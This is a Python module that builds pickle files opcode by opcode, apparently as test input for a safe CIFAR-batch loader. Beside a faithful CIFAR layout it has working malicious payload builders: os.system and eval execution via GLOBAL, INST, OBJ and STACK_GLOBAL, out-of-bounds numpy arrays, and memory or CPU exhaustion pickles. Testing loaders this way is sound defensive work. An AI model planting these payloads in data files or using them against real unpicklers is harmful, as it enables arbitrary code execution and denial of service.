"""Pickle programs written opcode by opcode.

``cifar_batch_py2`` reproduces the layout of the official CIFAR files
(Python 2 ``cPickle``, protocol 2: SHORT_BINSTRING keys, BINPUT memo, GLOBAL
numpy names, ``_reconstruct`` + BUILD for the data array, APPENDS of BININT1
labels); the attack builders reuse its pieces with one thing changed.
"""
import struct

PROTO2 = b"\x80\x02"
MARK, STOP, TUPLE, TUPLE1, TUPLE2, TUPLE3 = b"(", b".", b"t", b"\x85", b"\x86", b"\x87"
EMPTY_DICT, EMPTY_LIST, SETITEMS, APPENDS, REDUCE, BUILD = b"}", b"]", b"u", b"e", b"R", b"b"
NONE, NEWFALSE, NEWTRUE = b"N", b"\x89", b"\x88"


def short_string(data):
    """SHORT_BINSTRING (Python 2 str, read back as bytes)."""
    return b"U" + bytes([len(data)]) + data


def string(data):
    """BINSTRING: a 4-byte length (the 30 MB data string of a batch)."""
    return b"T" + struct.pack("<I", len(data)) + data


def unicode(text):
    data = text.encode("utf-8")
    return b"X" + struct.pack("<I", len(data)) + data


def integer(value):
    if 0 <= value < 256:
        return b"K" + bytes([value])
    if 0 <= value < 65536:
        return b"M" + struct.pack("<H", value)
    if -2**31 <= value < 2**31:
        return b"J" + struct.pack("<i", value)
    data = value.to_bytes((value.bit_length() + 8) // 8, "little", signed=True)
    return b"\x8a" + bytes([len(data)]) + data


def put(index):
    return b"q" + bytes([index]) if index < 256 else b"r" + struct.pack("<I", index)


def get(index):
    return b"h" + bytes([index]) if index < 256 else b"j" + struct.pack("<I", index)


def glob(module, name):
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def dtype(code=b"u1", state=None):
    """numpy.dtype(code, 0, 1) with its BUILD state (default: a plain number's)."""
    if state is None:
        order = b"|" if code in (b"u1", b"i1", b"b1") else b"<"
        state = (MARK + integer(3) + short_string(order) + NONE + NONE + NONE
                 + integer(-1) + integer(-1) + integer(0) + TUPLE)
    return (glob("numpy", "dtype") + short_string(code) + integer(0) + integer(1) + TUPLE3
            + REDUCE + state + BUILD)


def ndarray(shape, data, code=b"u1", fortran=NEWFALSE, dtype_program=None):
    """An array as Python 2 NumPy pickles it: _reconstruct(ndarray, (0,), 'b') + state."""
    shape_program = MARK + b"".join(integer(n) for n in shape) + TUPLE
    return (glob("numpy.core.multiarray", "_reconstruct") + glob("numpy", "ndarray")
            + integer(0) + TUPLE1 + short_string(b"b") + TUPLE3 + REDUCE
            + MARK + integer(1) + shape_program + (dtype_program or dtype(code)) + fortran
            + string(data) + TUPLE + BUILD)


def int_list(values):
    return EMPTY_LIST + MARK + b"".join(integer(v) for v in values) + APPENDS


def batch_dict(entries):
    """A dict of (key program, value program) pairs, memoized as cPickle does."""
    body = b"".join(key + value for key, value in entries)
    return PROTO2 + EMPTY_DICT + put(1) + MARK + body + SETITEMS + STOP


def cifar_batch_py2(images, labels, label_key=b"labels"):
    """A CIFAR batch (uint8 images (N, 3072), list of int labels) in the official layout."""
    return batch_dict([
        (short_string(b"batch_label"), short_string(b"training batch 1 of 5")),
        (short_string(label_key), int_list(labels)),
        (short_string(b"data"), ndarray(images.shape, images.tobytes())),
        (short_string(b"filenames"), EMPTY_LIST + MARK
         + b"".join(short_string(b"img%d.png" % i) for i in range(len(labels))) + APPENDS),
    ])


# ---------------------------------------------------------------------------- attacks
def plain_images(count=2, seed=0):
    import numpy as np
    return np.random.default_rng(seed).integers(0, 256, (count, 3072), dtype=np.uint8)


def with_data(value_program, labels=(1, 2)):
    """A batch whose b'data' value is ``value_program`` (and valid labels)."""
    return batch_dict([(short_string(b"labels"), int_list(list(labels))),
                       (short_string(b"data"), value_program)])


def call(module, name, *argument_programs):
    """GLOBAL module.name, then REDUCE on a tuple of the argument programs."""
    return glob(module, name) + MARK + b"".join(argument_programs) + TUPLE + REDUCE


def os_system(command):
    """The classic: os.system(command) through GLOBAL + REDUCE (protocol 2)."""
    return with_data(call("os", "system", unicode(command)))


def stack_global_eval(expression):
    """builtins.eval via STACK_GLOBAL (protocol 4)."""
    return (b"\x80\x04" + unicode("builtins") + unicode("eval") + b"\x93"
            + MARK + unicode(expression) + TUPLE + REDUCE + STOP)


def inst_system(command):
    """Protocol 0 INST: ``i`` module newline name newline, called on the items after MARK."""
    return MARK + unicode(command) + b"ios\nsystem\n" + STOP


def obj_system(command):
    """OBJ: the class object on the stack after MARK is called with the rest."""
    return MARK + glob("os", "system") + unicode(command) + b"o" + STOP


def newobj():
    """NEWOBJ: cls.__new__(cls, *args)."""
    return PROTO2 + glob("builtins", "object") + b")" + b"\x81" + STOP


def ext_code():
    """EXT1: a global looked up in copyreg's extension registry."""
    return PROTO2 + b"\x82\x01" + STOP


def persistent_id():
    """BINPERSID: resolved by the unpickler's persistent_load."""
    return PROTO2 + unicode("x") + b"Q" + STOP


def ndarray_with_offset(offset):
    """numpy.ndarray(shape, dtype, buffer, offset) called directly: reads outside the buffer."""
    return with_data(call("numpy", "ndarray", MARK + integer(1) + integer(3072) + TUPLE,
                          short_string(b"u1"), string(b"\x00" * 16), integer(offset)),
                     labels=[1])


def object_dtype_array():
    """A dtype that holds Python objects: raw file bytes would become pointers."""
    return with_data(ndarray((1, 1), b"A" * 8, code=b"O8"))


def dtype_with_object_flags():
    """A plain code whose BUILD state sets NumPy's object flags (0x3f) and an item size."""
    state = (MARK + integer(3) + short_string(b"|") + NONE + NONE + NONE
             + integer(8) + integer(1) + integer(0x3f) + TUPLE)
    return with_data(ndarray((2, 3072), b"\x00" * 6144, dtype_program=dtype(b"u1", state)))


def structured_dtype():
    """A dtype state with names and fields (a structured record)."""
    state = (MARK + integer(3) + short_string(b"|") + NONE
             + MARK + short_string(b"f0") + TUPLE
             + EMPTY_DICT + NONE + integer(8) + integer(1) + integer(0) + TUPLE)
    return with_data(ndarray((1, 1), b"A" * 8, dtype_program=dtype(b"V8", state)))


def declared_shape(shape, data=b"\x00" * 6):
    """An array whose shape promises far more than its data bytes (350 000 images)."""
    return with_data(ndarray(shape, data))


def memo_index(index):
    """LONG_BINPUT with a huge index: Python's unpickler grows its memo array to it."""
    return PROTO2 + NONE + b"r" + struct.pack("<I", index) + STOP


def nested_tuples(depth):
    """NONE wrapped in ``depth`` one-item tuples (one byte per level)."""
    return PROTO2 + NONE + TUPLE1 * depth + STOP


def nested_marks(depth):
    return PROTO2 + MARK * depth + STOP


def aliased_lists(count):
    """Lists changed after being placed in another list: a deep chain built from flat steps
    (list i-1 gets list i appended after list i-1 is already inside list i-2)."""
    program = PROTO2 + EMPTY_LIST + put(0)
    for index in range(1, count):
        program += EMPTY_LIST + put(index)                 # the new list
        program += get(index - 1) + get(index) + b"a"      # previous.append(new)
    return program + STOP


def colliding_int_keys(count):
    """``count`` int keys that all hash to 0 (multiples of 2**61 - 1): quadratic insertion."""
    entries = b"".join(integer(k * (2**61 - 1)) + NONE for k in range(1, count + 1))
    return PROTO2 + EMPTY_DICT + MARK + entries + SETITEMS + STOP


def laughs_key(levels=6, width=10):
    """A billion laughs: each level is a tuple of ``width`` references to the level below,
    used as a dict key, so printing the key (or the keys) is exponential in the file."""
    def level(k):
        if k == 0:
            return short_string(b"lol")
        return MARK + level(k - 1) + put(k) + get(k) * (width - 1) + TUPLE
    return PROTO2 + EMPTY_DICT + level(levels) + NONE + b"s" + STOP


def amplified_arrays(copies, size=100_000):
    """One memoized data string reused by ``copies`` arrays: tiny file, huge memory."""
    data = string(b"\x00" * size)
    program = PROTO2 + EMPTY_LIST + MARK + ndarray((size,), b"")[:0]
    first = (glob("numpy.core.multiarray", "_reconstruct") + put(1) + glob("numpy", "ndarray")
             + put(2) + integer(0) + TUPLE1 + short_string(b"b") + TUPLE3 + REDUCE
             + MARK + integer(1) + MARK + integer(size) + TUPLE + dtype() + put(3) + NEWFALSE
             + data + put(4) + TUPLE + BUILD)
    again = (get(1) + get(2) + integer(0) + TUPLE1 + short_string(b"b") + TUPLE3 + REDUCE
             + MARK + integer(1) + MARK + integer(size) + TUPLE + get(3) + NEWFALSE + get(4)
             + TUPLE + BUILD)
    return program + first + again * (copies - 1) + APPENDS + STOP


def label_list_with(value):
    """A valid batch whose labels list holds ``value`` (e.g. 2**63, beyond int64)."""
    images = plain_images(2)
    return batch_dict([(short_string(b"labels"), int_list([1, value])),
                       (short_string(b"data"), ndarray(images.shape, images.tobytes()))])


def codecs_encode(encoding):
    return with_data(call("_codecs", "encode", unicode("abc"), unicode(encoding)))


def bytes_longer_than_file(length=2**31):
    return PROTO2 + b"B" + struct.pack("<I", length) + b"xx" + STOP


def zero_stride_array(count=350_000):
    """numpy.ndarray((count, 3072), 'u1', buffer, 0, (0, 0)), and labels the same way:
    a 150-byte file seen as ``count`` images."""
    def strided(shape, code):
        return call("numpy", "ndarray", MARK + b"".join(integer(n) for n in shape) + TUPLE,
                    short_string(code), short_string(b"\x00" * 8), integer(0),
                    MARK + integer(0) * len(shape) + TUPLE)
    return batch_dict([(short_string(b"labels"), strided((count,), b"i8")),
                       (short_string(b"data"), strided((count, 3072), b"u1"))])
